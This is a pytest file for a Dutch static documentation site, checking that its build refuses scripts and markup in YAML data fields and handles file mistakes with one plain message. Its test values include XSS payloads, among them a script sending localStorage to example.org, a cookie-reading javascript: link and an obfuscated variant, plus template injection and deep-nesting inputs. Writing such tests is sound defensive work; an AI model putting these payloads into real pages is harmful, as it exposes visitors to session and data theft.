"""Text from data/ is content, never code, and a careless edit never publishes a broken or partial site.

Each story edits a throwaway copy of the project the way an attacker or an unlucky editor would and checks
what a visitor would get: no page at all with one plain message naming the file and the field, or a page
that shows the text as harmless text. Refused data is checked on the data stage the build runs first (the
same message, much faster); one case of each kind also goes through a whole build, which must publish nothing.
"""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from bs4 import BeautifulSoup

from helpers import ROOT, build_fails_plainly, copy_project, load_fails_plainly, run_build

METHOD = "data/methods/vijfstappenmethode.yml"


def _set_field(project: Path, rel: str, field: str, value: object) -> None:
    path = project / rel
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    data[field] = value
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


SMUGGLED = {
    "script_in_doel": ("doel", "Meer zicht. <script>location='https://example.org/?'+localStorage.k</script>",
                       ["'doel'", "bevat HTML", "'<script'"]),
    "img_onerror_in_notities": ("notities", ["Gewoon.", "<img src=x onerror=alert(1)>"],
                                ["'notities'", "het 2e item bevat HTML", "'<img'"]),
    "script_in_titel": ("titel", "Vijf <script>alert(1)</script>", ["'titel'", "bevat HTML"]),
    "javascript_link": ("wanneer", "Lees [dit](javascript:alert(document.cookie)).",
                        ["'wanneer'", "'javascript:'", "http, https, mailto"]),
    "disguised_javascript_link": ("wanneer", "Lees [dit]( JaVa&#x53;cript:alert(1)).", ["'wanneer'", "'JaVaScript:'"]),
    "attribute_list": ("doel", "Meer zicht. { onmouseover=alert(1) }", ["'doel'", "HTML-attributen"]),
    "jinja": ("doel", "Zeven keer zeven is {{ 7*7 }}.", ["'doel'", "sjablooncode"]),
    "foreign_image": ("doel", "Kijk: ![](https://example.org/pixel.png)", ["'doel'", "afbeelding van een andere site"]),
}


@pytest.mark.parametrize("case", sorted(SMUGGLED))
def test_code_in_a_method_field_stops_the_build_naming_file_and_field(case: str, tmp_path: Path) -> None:
    field, value, expected = SMUGGLED[case]
    project = copy_project(tmp_path / "project")
    _set_field(project, METHOD, field, value)
    load_fails_plainly(project, METHOD, *expected)


def test_a_script_in_a_method_field_is_never_published(tmp_path: Path) -> None:
    field, value, expected = SMUGGLED["script_in_doel"]
    project = copy_project(tmp_path / "project")
    _set_field(project, METHOD, field, value)
    build_fails_plainly(project, tmp_path / "site", METHOD, *expected)


@pytest.mark.parametrize("rel, path", [
    ("data/roles.yml", ["naam"]),
    ("data/cards.yml", ["vragen", 0]),
    ("data/handbook_lists.yml", ["items", 0, "tekst"]),
])
def test_code_in_any_data_file_stops_the_build(rel: str, path: list, tmp_path: Path) -> None:
    project = copy_project(tmp_path / "project")
    file = project / rel
    data = yaml.safe_load(file.read_text(encoding="utf-8"))
    target = next(iter(data.values()))
    for step in path[:-1]:
        target = target[step]
    target[path[-1]] = target[path[-1]] + " <a href=x onclick=alert(1)>klik</a>"
    file.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    load_fails_plainly(project, rel, f"'{path[0]}", "bevat HTML", "'<a'")


ODD_TITLE = 'De "vijf" stappen \\ a: b # {x}'
ODD_SUMMARY = 'Een "samenvatting" met \\n en: dubbele punt.'


@pytest.fixture(scope="module")
def odd_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One build of two harmless oddities an editor may write: quotes, backslashes and braces in a title,
    and method files whose extension is in capitals (.YML, .Yaml)."""
    project = copy_project(tmp_path_factory.mktemp("odd") / "project")
    _set_field(project, METHOD, "titel", ODD_TITLE)
    _set_field(project, METHOD, "samenvatting", ODD_SUMMARY)
    (project / METHOD).rename(project / "data/methods/vijfstappenmethode.YML")
    (project / "data/methods/roddelmethode.yml").rename(project / "data/methods/roddelmethode.Yaml")
    site = project.parent / "site"
    result = run_build(project, site)
    assert result.returncode == 0, result.stdout + result.stderr
    return site


def test_quotes_backslashes_and_braces_in_a_title_stay_plain_text(odd_site: Path) -> None:
    title = ODD_TITLE
    page = BeautifulSoup((odd_site / "methoden/vijfstappenmethode/index.html").read_text(encoding="utf-8"),
                         "lxml")
    assert page.select_one("article h1").get_text(strip=True).rstrip("¶") == title
    assert page.title.get_text().startswith(title)
    assert page.find("meta", attrs={"name": "description"})["content"] == ODD_SUMMARY
    article = page.select_one("article").get_text(" ")
    assert "render_macros" not in article and "---" not in article


def test_an_inline_script_in_a_written_page_stops_the_build(tmp_path: Path) -> None:
    # Data is checked field by field; a hand-written page is caught by the policy, which trusts only known scripts.
    project = copy_project(tmp_path / "project")
    page = project / "docs/privacy.md"
    page.write_text(page.read_text(encoding="utf-8") + "\n<script>fetch('https://example.org')</script>\n",
                    encoding="utf-8")
    result = run_build(project, tmp_path / "site")
    message = result.stdout + result.stderr
    assert result.returncode != 0 and "Traceback" not in message, message
    assert "privacy.md" in message and "niet zelf meelevert" in message, message


# --- Files an editor can get wrong ---------------------------------------------------------------------------


def test_a_method_file_with_an_upper_case_extension_is_published(odd_site: Path) -> None:
    assert (odd_site / "methoden/vijfstappenmethode/index.html").is_file()
    assert (odd_site / "methoden/roddelmethode/index.html").is_file()


FILE_CASES = {
    "two_files_for_one_slug": (
        lambda p: shutil.copy(p / METHOD, p / "data/methods/vijfstappenmethode.yaml"),
        ["data/methods/vijfstappenmethode.yml", "vijfstappenmethode.yaml", "dezelfde methode"],
    ),
    "not_a_yaml_file": (
        lambda p: (p / "data/methods/notities.txt").write_text("los", encoding="utf-8"),
        ["data/methods/notities.txt", ".yml of .yaml"],
    ),
    "missing_sources": (lambda p: (p / "data/sources.yml").unlink(), ["data/sources.yml", "ontbreekt"]),
    "missing_case_types": (lambda p: (p / "data/case_types.yml").unlink(), ["data/case_types.yml", "ontbreekt"]),
    "folder_named_like_a_data_file": (
        lambda p: ((p / "data/case_types.yml").unlink(), (p / "data/case_types.yml").mkdir()),
        ["data/case_types.yml", "is een map"],
    ),
    "folder_among_the_methods": (
        lambda p: (p / "data/methods/extra.yml").mkdir(), ["data/methods/extra.yml", ".yml of .yaml"],
    ),
    "nested_50000_deep": (
        lambda p: (p / "data/rules.yml").write_text("groepen: " + "[" * 50_000 + "]" * 50_000 + "\n",
                                                    encoding="utf-8"),
        ["data/rules.yml", "genest"],
    ),
    "over_a_megabyte": (
        lambda p: (p / "data/rules.yml").write_text("# " + "x" * 1_100_000 + "\n" +
                                                    (ROOT / "data/rules.yml").read_text(encoding="utf-8"),
                                                    encoding="utf-8"),
        ["data/rules.yml", "1.000.000 bytes"],
    ),
}


@pytest.mark.parametrize("case", sorted(FILE_CASES))
def test_a_file_mistake_stops_the_build_with_one_plain_message(case: str, tmp_path: Path) -> None:
    project = copy_project(tmp_path / "project")
    breaker, expected = FILE_CASES[case]
    breaker(project)
    message = load_fails_plainly(project, *expected)
    assert "RecursionError" not in message and "FileNotFoundError" not in message


def test_a_deleted_data_file_stops_the_whole_build_with_one_plain_message(tmp_path: Path) -> None:
    project = copy_project(tmp_path / "project")
    breaker, expected = FILE_CASES["missing_sources"]
    breaker(project)
    message = build_fails_plainly(project, tmp_path / "site", *expected)
    assert "FileNotFoundError" not in message


# --- What is published is what the tests checked --------------------------------------------------------------


def test_make_build_refuses_a_broken_link_in_a_data_file(tmp_path: Path) -> None:
    project = copy_project(tmp_path / "project")
    for name in ("Makefile", "requirements.txt"):
        shutil.copy2(ROOT / name, project / name)
    _set_field(project, METHOD, "doel", "Lees eerst [de uitleg](bestaat-niet.md).")
    venv = Path(sys.executable).parent.parent
    # -o: the virtualenv of this test run counts as up to date, so make installs nothing.
    result = subprocess.run(
        ["make", "-C", str(project), "build", f"VENV={venv}", "-o", f"{venv}/.site"],
        capture_output=True, text=True, check=False,
    )
    output = result.stdout + result.stderr
    assert result.returncode != 0, output
    assert "bestaat-niet.md" in output and "strict" in output, output
    assert not (project / "site").exists(), "a failed build must publish nothing"
